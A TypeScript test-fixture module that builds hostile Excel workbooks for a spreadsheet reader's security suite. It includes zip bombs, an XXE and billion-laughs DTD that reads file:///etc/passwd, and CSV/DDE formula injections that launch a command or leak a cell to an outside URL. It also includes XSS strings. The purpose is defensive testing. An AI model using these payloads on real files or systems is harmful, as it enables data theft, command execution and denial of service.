/**
 * The hostile workbooks of the attack suite (test/security) and of `npm run bench`: made on the
 * spot, nothing hostile is committed. Each is a function of no argument returning the file's
 * bytes; the big ones are made once per run (see `writeHostileFiles`).
 */
import { randomBytes } from 'node:crypto';
import { constants, deflateRawSync } from 'node:zlib';
import {
  generateSample,
  listLabel,
  planToRawWorkbook,
  type RawCell,
  type SheetPlan,
  type WorkbookPlan,
} from '../../src/core';
import { writeRawXlsx } from '../helpers/writeRawXlsx';
import { xlsxOf } from '../helpers/xlsxParts';

const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PKG = 'http://schemas.openxmlformats.org/package/2006/relationships';

interface Part {
  readonly name: string;
  /** Deflated bytes, and the size they unpack to (or claim to). */
  readonly packed: Uint8Array;
  readonly size: number;
}

const deflated = (name: string, text: string | Uint8Array): Part => {
  const bytes = typeof text === 'string' ? Buffer.from(text) : text;
  return { name, packed: deflateRawSync(bytes, { level: 9 }), size: bytes.length };
};

/** A zip of deflated parts, sizes as given (a lying header says less); CRCs are left at 0. */
function zip(parts: readonly Part[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const part of parts) {
    const name = Buffer.from(part.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(part.packed.length, 18);
    local.writeUInt32LE(Math.min(part.size, 0xfffffffe), 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(part.packed.length, 20);
    central.writeUInt32LE(Math.min(part.size, 0xfffffffe), 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, Buffer.from(part.packed));
    centrals.push(central, name);
    offset += 30 + name.length + part.packed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** A workbook whose sheets (named as given) are these parts, in order. */
function workbook(sheets: readonly { readonly name: string; readonly part: Part }[]): Buffer {
  const tags = sheets.map((s, i) => `<sheet name="${s.name}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join('');
  const rels = sheets
    .map((s, i) => `<Relationship Id="rId${i + 1}" Type="${REL}/worksheet" Target="${s.part.name.slice(3)}"/>`)
    .join('');
  return zip([
    deflated(
      '_rels/.rels',
      `<Relationships xmlns="${PKG}"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    ),
    deflated('xl/workbook.xml', `<workbook xmlns="${MAIN}" xmlns:r="${REL}"><sheets>${tags}</sheets></workbook>`),
    deflated('xl/_rels/workbook.xml.rels', `<Relationships xmlns="${PKG}">${rels}</Relationships>`),
    ...sheets.map((s) => s.part),
  ]);
}

const oneSheet = (name: string, part: Part) => workbook([{ name, part }]);

/**
 * A deflate stream that unpacks to `mib` MiB of blanks inside a worksheet's first cell, made
 * without packing them: a block of up to 64 MiB ended by a full flush (which resets the
 * window), repeated, then an empty final block.
 */
function blanksBomb(name: string, mib: number): Part {
  const head = `<worksheet xmlns="${MAIN}"><sheetData><row r="1"><c t="inlineStr"><is><t>`;
  const blockMib = Math.min(64, mib);
  const block = deflateRawSync(Buffer.alloc(blockMib * 1024 * 1024, 32), { finishFlush: constants.Z_FULL_FLUSH });
  const start = deflateRawSync(Buffer.from(head), { finishFlush: constants.Z_FULL_FLUSH });
  const repeats = Math.ceil(mib / blockMib);
  const packed = Buffer.concat([start, ...Array.from({ length: repeats }, () => block), Buffer.from([3, 0])]);
  return { name, packed, size: head.length + repeats * blockMib * 1024 * 1024 };
}

function rowsXml(from: number, count: number, cells: (r: number) => string): Buffer {
  const out: string[] = [];
  for (let r = from; r < from + count; r++) out.push(`<row r="${r}">${cells(r)}</row>`);
  return Buffer.from(out.join(''), 'utf8');
}

const inline = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;

/** A sheet part of `rows` rows, written in pieces of 100,000 rows (one string would pass V8's longest). */
function bigSheet(name: string, header: string, rows: number, cells: (r: number) => string): Part {
  const pieces: Buffer[] = [Buffer.from(`<worksheet xmlns="${MAIN}"><sheetData><row r="1">${header}</row>`)];
  for (let from = 2; from <= rows + 1; from += 100_000)
    pieces.push(rowsXml(from, Math.min(100_000, rows + 2 - from), cells));
  pieces.push(Buffer.from('</sheetData></worksheet>'));
  return deflated(name, Buffer.concat(pieces));
}

/** Texts a report must never carry, planted where the sample keeps personal or confidential text. */
export const PLANTED = ['EMAILPLANT', 'PHONEPLANT', 'DELEGATEPLANT', 'SITEPLANT', 'DESCPLANT', 'CONFIDPLANT'] as const;

/** Texts that would run or load something if a door took them for code or markup. */
export const INJECTIONS = [
  '=HYPERLINK("https://example.org/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '<img src=x onerror="window.__xss=1">',
  '<script>window.__xss=1</script>',
  '"><svg onload="window.__xss=1">',
] as const;

/**
 * The French sample, with every personal and confidential text planted (PLANTED) and the members'
 * names and organisations replaced by formula and markup injections (INJECTIONS).
 */
function plantedSample(): Uint8Array {
  const plan: WorkbookPlan = generateSample({ lang: 'fr' });
  const yes = listLabel('boolean', 'yes', 'fr');
  const sheets = plan.sheets.map((sheet): SheetPlan => {
    const col = (key: string) => sheet.columns.findIndex((c) => c.key === key);
    const set = (row: RawCell[], key: string, value: RawCell) => {
      const i = col(key);
      if (i >= 0) row[i] = value;
    };
    const rows = sheet.rows.map((source, n) => {
      const row = [...source];
      const injection = INJECTIONS[n % INJECTIONS.length]!;
      if (sheet.key === 'members') {
        set(row, 'name', `${injection} ${n}`);
        set(row, 'organisation', `${injection} org ${n % 9}`);
        set(row, 'email', `EMAILPLANT${n}`);
        set(row, 'phone', `PHONEPLANT${n}`);
      }
      if (sheet.key === 'meetings') set(row, 'topics', injection);
      if (sheet.key === 'attendance') set(row, 'delegate', `DELEGATEPLANT${n}`);
      if (sheet.key === 'incidents') {
        set(row, 'site', `SITEPLANT${n}`);
        set(row, 'description', `DESCPLANT${n} ${injection}`);
        if (n % 3 === 0) {
          set(row, 'confidential', yes);
          set(row, 'incidentId', `CONFIDPLANT-ID${n}`);
          set(row, 'referredTo', `CONFIDPLANT-REFERRED${n}`);
        }
      }
      return row;
    });
    return { ...sheet, rows };
  });
  return writeRawXlsx(planToRawWorkbook({ ...plan, sheets }));
}

const XXE_SHEET = `<?xml version="1.0"?>
<!DOCTYPE worksheet [
  <!ENTITY passwd SYSTEM "file:///etc/passwd">
  <!ENTITY remote SYSTEM "https://example.org/leak">
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<worksheet xmlns="${MAIN}"><sheetData>
<row r="1">${inline('A1', 'Member ID')}${inline('B1', 'Name')}</row>
<row r="2">${inline('A2', '&passwd;')}${inline('B2', '&lol9;')}</row>
<row r="3">${inline('A3', '&remote;')}${inline('B3', '&lol9;&lol9;&lol9;')}</row>
</sheetData></worksheet>`;

export interface HostileFile {
  readonly name: string;
  /** What the case is, in a few words, for the printed figures. */
  readonly what: string;
  readonly make: () => Uint8Array;
  /** Refused by the reader (exit 2, one sentence), or read (and validated: exit 0 or 1). */
  readonly refused: boolean;
  /** Big to make and to read: the suite gives it to fewer doors. */
  readonly heavy?: boolean;
}

export const HOSTILE: readonly HostileFile[] = [
  {
    name: 'zip-bomb-2gb.xlsx',
    what: 'a zip bomb unpacking to 2 GB, sizes declared',
    make: () => oneSheet('Présences', blanksBomb('xl/worksheets/sheet1.xml', 2048)),
    refused: true,
  },
  {
    name: 'zip-bomb-lying-header.xlsx',
    what: 'a zip bomb of 4 GB whose header says 4 KB',
    make: () => oneSheet('Présences', { ...blanksBomb('xl/worksheets/sheet1.xml', 4096), size: 4096 }),
    refused: true,
  },
  {
    name: 'zip-bomb-many-parts.xlsx',
    what: '1,000 sheets of 1 MB of blanks each (packed 1,000 to 1, each under the ratio check)',
    make: () =>
      workbook(
        Array.from({ length: 1000 }, (_, i) => ({
          name: `S${i}`,
          part: blanksBomb(`xl/worksheets/sheet${i + 1}.xml`, 1),
        })),
      ),
    refused: true,
  },
  {
    name: 'huge-cell-30mb.xlsx',
    what: 'a cell of 30 million characters',
    make: () => {
      const letters = Buffer.from(randomBytes(30_000_000).map((b) => 97 + (b % 26)));
      const sheet = Buffer.concat([
        Buffer.from(`<worksheet xmlns="${MAIN}"><sheetData><row r="1"><c t="inlineStr"><is><t>`),
        letters,
        Buffer.from('</t></is></c></row></sheetData></worksheet>'),
      ]);
      return oneSheet('Membres', deflated('xl/worksheets/sheet1.xml', sheet));
    },
    refused: true,
  },
  {
    name: 'row-231999999999940.xlsx',
    what: 'a row numbered 231,999,999,999,940',
    make: () => xlsxOf({ sheets: [{ name: 'Membres', data: '<row r="231999999999940"><c><v>1</v></c></row>' }] }),
    refused: true,
  },
  {
    name: 'rows-3-million.xlsx',
    what: 'a sheet of 3 million rows',
    make: () =>
      oneSheet(
        'Présences',
        bigSheet('xl/worksheets/sheet1.xml', inline('A1', 'Meeting ID'), 3_000_000, (r) =>
          inline(`A${r}`, `M${r % 997}`),
        ),
      ),
    refused: true,
    heavy: true,
  },
  {
    name: 'merged-A70-XFD1048576.xlsx',
    what: 'a merged range A70:XFD1048576',
    make: () =>
      oneSheet(
        'Membres',
        deflated(
          'xl/worksheets/sheet1.xml',
          `<worksheet xmlns="${MAIN}"><sheetData>${rowsXml(1, 100, (r) => inline(`A${r}`, `M${r}`)).toString()}</sheetData><mergeCells count="1"><mergeCell ref="A70:XFD1048576"/></mergeCells></worksheet>`,
        ),
      ),
    refused: false,
  },
  {
    name: 'attendance-1048575-rows.xlsx',
    what: 'an Attendance sheet of 1,048,575 rows, none of a known member',
    make: () =>
      workbook([
        {
          name: 'Members',
          part: deflated(
            'xl/worksheets/sheet1.xml',
            `<worksheet xmlns="${MAIN}"><sheetData><row r="1">${inline('A1', 'Member ID')}${inline('B1', 'Name')}${inline('C1', 'Organisation')}${inline('D1', 'Pillar')}</row></sheetData></worksheet>`,
          ),
        },
        {
          name: 'Meetings',
          part: deflated(
            'xl/worksheets/sheet2.xml',
            `<worksheet xmlns="${MAIN}"><sheetData><row r="1">${inline('A1', 'Meeting ID')}${inline('B1', 'Date')}</row></sheetData></worksheet>`,
          ),
        },
        {
          name: 'Attendance',
          part: bigSheet(
            'xl/worksheets/sheet3.xml',
            `${inline('A1', 'Meeting ID')}${inline('B1', 'Member ID')}${inline('C1', 'Attendance')}`,
            1_048_575,
            (r) => `${inline(`A${r}`, 'R1')}${inline(`B${r}`, `GHOST${r}`)}${inline(`C${r}`, 'Present')}`,
          ),
        },
      ]),
    refused: false,
    heavy: true,
  },
  {
    name: 'xxe-billion-laughs.xlsx',
    what: 'a DTD with an external entity (file:///etc/passwd, https) and a billion laughs',
    make: () => xlsxOf({ sheets: [{ name: 'Members', data: XXE_SHEET }] }),
    refused: false,
  },
  {
    name: 'utf16-parts.xlsx',
    what: 'a workbook whose parts are UTF-16 with a byte-order mark',
    make: () => {
      const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
      const data = `<?xml version="1.0" encoding="UTF-16"?><worksheet xmlns="${MAIN}"><sheetData><row r="1">${inline('A1', 'Member ID')}${inline('B1', 'Nom ünïcødé 😀')}</row></sheetData></worksheet>`;
      return xlsxOf({ sheets: [{ name: 'Members', data: utf16(data) }] });
    },
    refused: false,
  },
  {
    name: 'planted-injections.xlsx',
    what: 'the sample with planted private texts, formula and markup injections in names',
    make: plantedSample,
    refused: false,
  },
];
